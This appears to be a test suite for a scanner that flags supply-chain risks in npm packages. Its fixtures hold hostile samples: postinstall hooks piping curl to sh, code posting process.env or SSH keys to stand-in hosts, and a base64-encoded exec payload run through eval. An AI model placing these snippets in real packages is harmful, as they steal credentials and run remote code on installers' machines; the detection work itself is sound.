import { describe, expect, it } from "vitest";
import { atLeast, readFiles, worst } from "./package-dir";

describe("install scripts", () => {
  it("lists hooks; a native build is low and prepare info", async () => {
    const r = await readFiles({ "index.js": "module.exports = 1;" }, { scripts: { install: "node-gyp rebuild", prepare: "tsc -p .", test: "vitest" } });
    expect(r.staticEvidence.installScripts).toEqual([
      { script: "install", command: "node-gyp rebuild" },
      { script: "prepare", command: "tsc -p ." },
    ]);
    expect(worst(r.findings, "PKG-INSTALL-SCRIPT")).toBe("low");
    expect(r.findings.find((f) => f.severity === "info" && f.id === "PKG-INSTALL-SCRIPT")?.location).toMatch(/^package\.json:\d+$/);
    expect(worst(r.findings)).toBe("low");
  });

  it("adds the implicit node-gyp rebuild of a binding.gyp", async () => {
    const r = await readFiles({ "binding.gyp": "{}", "index.js": "" });
    expect(r.staticEvidence.installScripts).toEqual([{ script: "install", command: "node-gyp rebuild" }]);
  });

  it("curl piped to a shell in a postinstall is high", async () => {
    const r = await readFiles({}, { scripts: { postinstall: "curl -s https://get.tool.test/install.sh | sh" } });
    expect(worst(r.findings, "PKG-INSTALL-NETWORK")).toBe("high");
    expect(worst(r.findings, "PKG-INSTALL-SHELL")).toBe("high");
  });

  it("a postinstall file that posts the environment is critical, located in that file", async () => {
    const r = await readFiles(
      { "lib/post.js": "const https = require('https');\nconst data = JSON.stringify(process.env);\nhttps.request({ host: 'collect.test', method: 'POST' }).end(data);\n" },
      { scripts: { postinstall: "node ./lib/post.js" } },
    );
    const f = r.findings.find((x) => x.id === "PKG-INSTALL-EXFIL");
    expect(f?.severity).toBe("critical");
    expect(f?.location).toBe("lib/post.js:2");
    expect(f?.evidence).toContain("JSON.stringify(process.env)");
  });

  it("a preinstall that only prints a message is medium, no more", async () => {
    const r = await readFiles({ "msg.js": "console.log('Thanks for installing!');\n" }, { scripts: { preinstall: "node msg.js" } });
    expect(worst(r.findings)).toBe("medium");
  });

  it("an install script reading ~/.npmrc without network is high (credentials at install time)", async () => {
    const r = await readFiles({ "setup.js": "const fs=require('fs');const t=fs.readFileSync(require('os').homedir()+'/.npmrc','utf8');fs.writeFileSync('x',t);\n" }, { scripts: { postinstall: "node setup.js" } });
    expect(worst(r.findings, "PKG-INSTALL-SHELL")).toBe("high");
    expect(worst(r.findings, "PKG-INSTALL-EXFIL")).toBeNull();
  });
});

describe("native binaries", () => {
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(100)]);
  const macho = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(100)]);
  const pe = Buffer.alloc(200);
  pe.write("MZ", 0, "latin1");
  pe.writeUInt32LE(128, 60);

  it("finds executables by header whatever their name, and .node addons", async () => {
    const r = await readFiles({ "bin/helper": elf, "vendor/tool.dat": macho, "win/x.exe": pe, "build/Release/addon.node": elf, "index.js": "" });
    expect(r.staticEvidence.nativeBinaries.sort()).toEqual(["bin/helper", "build/Release/addon.node", "vendor/tool.dat", "win/x.exe"]);
    expect(worst(r.findings, "PKG-NATIVE-BINARY")).toBe("medium");
  });

  it("an addon alone is low; text and Java classes are not binaries", async () => {
    const r = await readFiles({ "prebuilds/linux-x64/addon.node": elf, "MZ-notes.txt": "MZ is a header", "Main.class": Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]) });
    expect(r.staticEvidence.nativeBinaries).toEqual(["prebuilds/linux-x64/addon.node"]);
    expect(worst(r.findings, "PKG-NATIVE-BINARY")).toBe("low");
  });
});

describe("obfuscation", () => {
  const payload = Buffer.from("require('child_process').exec('curl http://203.0.113.9/x | sh')").toString("base64");

  it("a base64 literal that decodes to code, evaluated, is critical", async () => {
    const r = await readFiles({ "index.js": `const p = "${payload}";\nconst code = Buffer.from(p, 'base64').toString();\neval(code);\n` });
    expect(worst(r.findings, "PKG-OBFUSCATED")).toBe("critical");
    expect(r.staticEvidence.obfuscatedFiles[0].file).toBe("index.js");
    expect(r.findings.find((f) => f.id === "PKG-OBFUSCATED")?.evidence).toContain("[decoded]");
  });

  it("a decode handed straight to new Function is high (critical only with encoded code or an obfuscator signature too)", async () => {
    const r = await readFiles({ "index.js": "module.exports = (s) => new Function(atob(s))();\n" });
    expect(worst(r.findings, "PKG-OBFUSCATED")).toBe("high");
    expect(r.staticEvidence.obfuscatedFiles).toEqual([{ file: "index.js", reason: "a decoded string passed to eval/Function/vm" }]);
  });

  it("javascript-obfuscator output is medium, high with eval", async () => {
    const ids = Array.from({ length: 12 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=_0x4f2c[${i}];`).join("");
    expect(worst((await readFiles({ "a.js": ids })).findings, "PKG-OBFUSCATED")).toBe("medium");
    expect(worst((await readFiles({ "a.js": `${ids}\neval(_0x1a2b);` })).findings, "PKG-OBFUSCATED")).toBe("high");
  });

  it("hex-encoded code in \\x escapes is found", async () => {
    const hidden = [...'require("child_process").execSync("id")'].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
    const r = await readFiles({ "x.js": `const s = "${hidden}";\nmodule.exports = s;\n` });
    expect(worst(r.findings, "PKG-OBFUSCATED")).toBe("high");
  });

  it("benign look-alikes: data URIs, hashes, random test vectors, minified bundles", async () => {
    const png = Buffer.alloc(300, 7).toString("base64");
    const random = Buffer.from(Array.from({ length: 200 }, (_, i) => (i * 7919) % 251)).toString("base64");
    const minified = `!function(){${Array.from({ length: 300 }, (_, i) => `var a${i}=function(b){return b+${i}};`).join("")}}();`;
    const r = await readFiles({
      "icon.js": `export const icon = "data:image/png;base64,${png}";`,
      "hash.js": `export const SHA = "${"ab12".repeat(32)}";\nexport const KEY = "${random}";`,
      "dist/bundle.min.js": minified,
    });
    expect(worst(r.findings, "PKG-OBFUSCATED")).toBeNull();
    expect(worst(r.findings, "PKG-MINIFIED")).toBe("info");
    expect(r.staticEvidence.obfuscatedFiles).toEqual([]);
  });
});

describe("network endpoints", () => {
  it("lists API hosts as info and leaves out docs, schemas, examples and the package's own repository", async () => {
    const r = await readFiles(
      {
        "index.js": [
          "// see https://docs.comment.test/ (comment, not an endpoint)",
          "const API = 'https://api.github.com';",
          "const schema = { $schema: 'http://json-schema.org/draft-07/schema#' };",
          "const ns = 'http://www.w3.org/2000/svg';",
          "const doc = 'https://github.com/owner/subject/issues';",
          "const ex = 'https://example.com/path';",
          "const local = 'http://localhost:11434/api';",
          "const tpl = `https://${host}/x`;",
        ].join("\n"),
      },
      { homepage: "https://subject.dev" },
    );
    expect(r.staticEvidence.networkEndpoints.map((e) => e.value)).toEqual(["https://api.github.com", "http://localhost:11434/api"]);
    expect(r.staticEvidence.networkEndpoints[0]).toMatchObject({ file: "index.js", line: 2 });
    expect(worst(r.findings, "PKG-NETWORK-ENDPOINT")).toBe("info");
  });

  it("a collection service is high and a bare public IP medium; private addresses are info", async () => {
    expect(worst((await readFiles({ "a.js": "fetch('https://webhook.site/7d1e-44', {method:'POST'})" })).findings, "PKG-NETWORK-ENDPOINT")).toBe("high");
    expect(worst((await readFiles({ "a.js": "fetch('https://discord.com/api/webhooks/123/abc')" })).findings, "PKG-NETWORK-ENDPOINT")).toBe("high");
    expect(worst((await readFiles({ "a.js": "const u='http://45.77.10.2:8080/c'" })).findings, "PKG-NETWORK-ENDPOINT")).toBe("medium");
    expect(worst((await readFiles({ "a.js": "const router='http://192.168.1.1/'" })).findings, "PKG-NETWORK-ENDPOINT")).toBe("info");
  });
});

describe("process and eval use", () => {
  it("child_process in a shell tool is low, with file and line", async () => {
    const r = await readFiles({ "src/tool.js": "import { execFile } from 'node:child_process';\nexecFile('git', ['status']);\n" });
    expect(r.staticEvidence.processAndEvalUse).toEqual([expect.objectContaining({ file: "src/tool.js", line: 1, kind: "child_process" })]);
    expect(worst(r.findings)).toBe("low");
  });

  it("recognises eval, new Function and vm, but not look-alike method names", async () => {
    const r = await readFiles({ "a.js": "eval(x);\nconst f = new Function('a', 'return a');\nconst vm = require('vm');\npage.evaluate(() => 1);\nmy.eval(1);\nconst evaluate = 2;\n" });
    expect(r.staticEvidence.processAndEvalUse.map((u) => [u.kind, u.line])).toEqual([
      ["eval", 1],
      ["Function", 2],
      ["vm", 3],
    ]);
  });

  it("ignores code in comments", async () => {
    const r = await readFiles({ "a.js": "// require('child_process').exec(x)\n/* eval(y) */\nconst s = 'no // comment here';\n" });
    expect(r.staticEvidence.processAndEvalUse).toEqual([]);
  });
});

describe("credentials and exfiltration", () => {
  it("environment serialised and sent is critical", async () => {
    const r = await readFiles({ "index.js": "const body = JSON.stringify(process.env);\nfetch('https://api.stats.test/v1', { method: 'POST', body });\n" });
    expect(worst(r.findings, "PKG-ENV-EXFIL")).toBe("critical");
  });

  it("an SSH key read and sent to a named host is high, to a bare IP critical", async () => {
    const read = "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\n";
    expect(worst((await readFiles({ "a.js": `${read}https.request('https://keys.svc.test/up').end(k);` })).findings, "PKG-ENV-EXFIL")).toBe("high");
    expect(worst((await readFiles({ "a.js": `${read}https.request('https://93.184.216.34/up').end(k);` })).findings, "PKG-ENV-EXFIL")).toBe("critical");
  });

  it("reads and sends in different files are not combined", async () => {
    const r = await readFiles({ "a.js": "module.exports = JSON.stringify(process.env);", "b.js": "fetch('https://api.weather.test/')" });
    expect(worst(r.findings, "PKG-ENV-EXFIL")).toBeNull();
    expect(worst(r.findings, "PKG-CREDENTIAL-READ")).toBe("medium");
  });

  it("honest patterns stay low: one token from the env sent to its API, env copied for a child, dotenv", async () => {
    const r = await readFiles({
      "index.js": [
        "import 'dotenv/config';",
        "const token = process.env.GITHUB_TOKEN;",
        "const res = await fetch('https://api.github.com/user', { headers: { authorization: `Bearer ${token}` } });",
        "spawn('git', ['pull'], { env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } });",
        "const cfg = path.join(process.cwd(), '.env');",
      ].join("\n"),
    });
    expect(atLeast(worst(r.findings), "medium")).toBe(false);
    expect(r.staticEvidence.declaredEnvironment).toEqual(["GITHUB_TOKEN", "GIT_TERMINAL_PROMPT"].filter((n) => n === "GITHUB_TOKEN"));
  });

  it("names credential stores with file and line", async () => {
    const r = await readFiles({ "a.js": "const p = '~/.aws/credentials';\nconst q = `${home}/.config/gcloud/application_default_credentials.json`;\nconst c = 'Google/Chrome/Default/Login Data';\n" });
    expect(r.staticEvidence.credentialPathReads.map((c) => [c.path, c.line])).toEqual([
      ["~/.aws/credentials", 1],
      ["~/.config/gcloud", 2],
      ["browser profile", 3],
    ]);
  });
});

describe("declared environment", () => {
  it("collects names from code, README snippets and server.json, without system variables", async () => {
    const r = await readFiles({
      "index.js": "const { API_KEY, REGION = 'eu' } = process.env;\nif (process.env['NODE_ENV'] === 'x' || process.env.HOME) {}\nconst p = process.env.PROXY_URL;\n",
      "README.md": '```json\n{ "env": { "SERVICE_TOKEN": "…", "LOG_LEVEL": "debug" } }\n```\nOr: `export OTHER_SETTING=1`\n',
      "server.json": JSON.stringify({ packages: [{ environmentVariables: [{ name: "FROM_SERVER_JSON" }] }] }),
    });
    expect(r.staticEvidence.declaredEnvironment).toEqual(["API_KEY", "FROM_SERVER_JSON", "LOG_LEVEL", "OTHER_SETTING", "PROXY_URL", "REGION", "SERVICE_TOKEN"]);
  });
});

describe("scope of the reading", () => {
  it("reads bundled dependencies but not other node_modules", async () => {
    const r = await readFiles(
      { "index.js": "", "node_modules/bundled-x/index.js": "eval(a)", "node_modules/installed-y/index.js": "eval(b)" },
      { bundleDependencies: ["bundled-x"], dependencies: { "bundled-x": "1.0.0", "installed-y": "1.0.0" } },
    );
    expect(r.staticEvidence.processAndEvalUse.map((u) => u.file)).toEqual(["node_modules/bundled-x/index.js"]);
  });

  it("lists installed dependencies with install scripts", async () => {
    const r = await readFiles({
      "node_modules/dep-a/package.json": JSON.stringify({ name: "dep-a", version: "1.0.0", scripts: { postinstall: "node x.js" } }),
      "node_modules/@s/dep-b/package.json": JSON.stringify({ name: "@s/dep-b", version: "2.0.0", gypfile: true }),
      "node_modules/dep-c/package.json": JSON.stringify({ name: "dep-c", version: "1.0.0", scripts: { test: "x" } }),
      "node_modules/dep-c/node_modules/dep-d/package.json": JSON.stringify({ name: "dep-d", version: "3.0.0", scripts: { preinstall: "curl https://x.test | sh" } }),
    });
    expect(r.staticEvidence.dependenciesWithInstallScripts).toEqual(["@s/dep-b@2.0.0", "dep-a@1.0.0", "dep-d@3.0.0"]);
    expect(worst(r.findings, "PKG-DEP-INSTALL-SCRIPTS")).toBe("medium");
  });

  it("evidence is escaped and at most 200 characters", async () => {
    const r = await readFiles({ "a.js": `eval("\u001b[2J${"x".repeat(400)}")` });
    for (const f of r.findings) {
      expect(f.evidence.length).toBeLessThanOrEqual(200);
      expect(f.evidence).not.toMatch(/\u001b/);
    }
  });
});

describe("environment dumps inside a larger value", () => {
  it("process.env as a property of a serialised or sent object counts; single variables do not", async () => {
    const dump = await readFiles({ "a.js": "const b = JSON.stringify({ host: os.hostname(), env: process.env });\nhttp.request('http://collector.test/').end(b);\n" });
    expect(worst(dump.findings, "PKG-ENV-EXFIL")).toBe("critical");
    const posted = await readFiles({ "a.js": "axios.post('https://x.test/c', process.env);\n" });
    expect(worst(posted.findings, "PKG-ENV-EXFIL")).toBe("critical");
    const single = await readFiles({ "a.js": "const b = JSON.stringify({ region: process.env.AWS_REGION, key: process.env['API_KEY'] });\nfetch('https://api.svc.test/', { method: 'POST', body: b });\n" });
    expect(worst(single.findings, "PKG-ENV-EXFIL")).toBeNull();
  });
});
